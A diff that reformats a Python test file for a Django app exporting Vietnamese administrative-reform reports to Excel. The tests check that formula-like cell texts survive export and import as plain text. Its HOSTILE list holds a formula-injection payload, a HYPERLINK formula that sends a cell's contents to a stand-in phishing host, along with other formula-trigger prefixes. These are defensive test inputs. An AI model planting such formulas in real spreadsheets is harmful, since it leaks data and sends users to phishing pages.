@@ -22,19 +22,33 @@ from reports.models import Report
 
 ROOT = Path(__file__).resolve().parent.parent
 LINK = '=HYPERLINK("http://phishing.example/"&B3,"Xem chi tiết")'
-HOSTILE = [LINK, "=1+1", "+84 912 345 678", "-2+3", "- Rà soát văn bản", "@SUM(A1:A2)",
-           "\tthụt đầu dòng", "\rxuống dòng"]
+HOSTILE = [
+    LINK,
+    "=1+1",
+    "+84 912 345 678",
+    "-2+3",
+    "- Rà soát văn bản",
+    "@SUM(A1:A2)",
+    "\tthụt đầu dòng",
+    "\rxuống dòng",
+]
 
 
 def sheet_xml(content: bytes) -> dict[str, str]:
     with zipfile.ZipFile(BytesIO(content)) as archive:
-        return {name: archive.read(name).decode() for name in archive.namelist()
-                if name.startswith("xl/worksheets/sheet")}
+        return {
+            name: archive.read(name).decode()
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/sheet")
+        }
 
 
 def formulas(content: bytes) -> list[str]:
-    return [f"{name}: {cell}" for name, xml in sheet_xml(content).items()
-            for cell in re.findall(r"<c [^>]*>(?:(?!</c>).)*<f[ >].*?</c>", xml)]
+    return [
+        f"{name}: {cell}"
+        for name, xml in sheet_xml(content).items()
+        for cell in re.findall(r"<c [^>]*>(?:(?!</c>).)*<f[ >].*?</c>", xml)
+    ]
 
 
 def test_a_text_read_as_a_formula_is_written_as_text_and_numbers_stay_numbers():
@@ -82,8 +96,7 @@ def reviewer():
 def test_a_report_workbook_keeps_hostile_texts_as_text_through_the_download(client, reviewer):
     period = ReportingPeriod.objects.get(plan__code="hung-yen-2023", kind="h1")
     data = documents.province_report_data(period)
-    area = next(a for a in data["areas"] if a["targets"] and (a["done"] or a["overdue"]
-                                                             or a["in_progress"]))
+    area = next(a for a in data["areas"] if a["targets"] and (a["done"] or a["overdue"] or a["in_progress"]))
     area["targets"][0].update(text=LINK, value="-2.5")
     task = (area["done"] or area["overdue"] or area["in_progress"])[0]
     task.update(text="+84 912 345 678", leads="@Sở Tư pháp")
@@ -94,11 +107,9 @@ def test_a_report_workbook_keeps_hostile_texts_as_text_through_the_download(clie
     content = b"".join(response.streaming_content)
     assert formulas(content) == []
     book = load_workbook(BytesIO(content))
-    targets = [r for r in book["Chỉ tiêu"].iter_rows(min_row=4, values_only=True)
-               if r[2] == LINK]
-    assert len(targets) == 1 and targets[0][5] == -2.5          # a figure is still a number
-    tasks = [r for r in book["Nhiệm vụ"].iter_rows(min_row=4, values_only=True)
-             if r[1] == "+84 912 345 678"]
+    targets = [r for r in book["Chỉ tiêu"].iter_rows(min_row=4, values_only=True) if r[2] == LINK]
+    assert len(targets) == 1 and targets[0][5] == -2.5  # a figure is still a number
+    tasks = [r for r in book["Nhiệm vụ"].iter_rows(min_row=4, values_only=True) if r[1] == "+84 912 345 678"]
     assert len(tasks) == 1 and tasks[0][2] == "@Sở Tư pháp"
 
 
@@ -127,19 +138,23 @@ def upload(client, plan, content: bytes):
 
 
 @pytest.mark.django_db
-def test_a_formula_like_task_text_imports_exports_as_text_and_imports_back_unchanged(client,
-                                                                                      reviewer):
+def test_a_formula_like_task_text_imports_exports_as_text_and_imports_back_unchanged(client, reviewer):
     source = Plan.objects.get(code="hai-duong-2024")
-    plan = Plan.objects.create(code="hd-2025-cong-thuc", title="Kế hoạch CCHC năm 2025",
-                               issuer=source.issuer, year=2025, status="draft")
+    plan = Plan.objects.create(
+        code="hd-2025-cong-thuc",
+        title="Kế hoạch CCHC năm 2025",
+        issuer=source.issuer,
+        year=2025,
+        status="draft",
+    )
     area = source.areas.order_by("position").first()
-    PlanArea.objects.create(plan=plan, area=area.area, code=area.code, title=area.title,
-                            position=1)
+    PlanArea.objects.create(plan=plan, area=area.area, code=area.code, title=area.title, position=1)
     client.force_login(reviewer)
     texts = [LINK, "+84 912 345 678 (đường dây nóng)", "-2+3 đơn vị", "@Sở Tư pháp rà soát"]
     rows = [HEADERS, ["I", area.title]] + [
         [str(i), text, "Sở Tư pháp", "", "Quý II/2025", "=SUM(1;2) báo cáo" if i == 1 else ""]
-        for i, text in enumerate(texts, start=1)]
+        for i, text in enumerate(texts, start=1)
+    ]
     assert upload(client, plan, typed_as_text(rows)).status_code == 302
     stored = list(plan.tasks.order_by("position").values_list("text", "product"))
     assert stored == [(LINK, "=SUM(1;2) báo cáo")] + [(t, "") for t in texts[1:]]
@@ -148,8 +163,7 @@ def test_a_formula_like_task_text_imports_exports_as_text_and_imports_back_uncha
     assert response.status_code == 200
     exported = b"".join(response.streaming_content)
     assert formulas(exported) == []
-    cells = [row[1] for row in load_workbook(BytesIO(exported)).active.iter_rows(
-        min_row=3, values_only=True)]
+    cells = [row[1] for row in load_workbook(BytesIO(exported)).active.iter_rows(min_row=3, values_only=True)]
     assert cells == texts
 
     # the export goes back in as it came out: every task the same, nothing changed
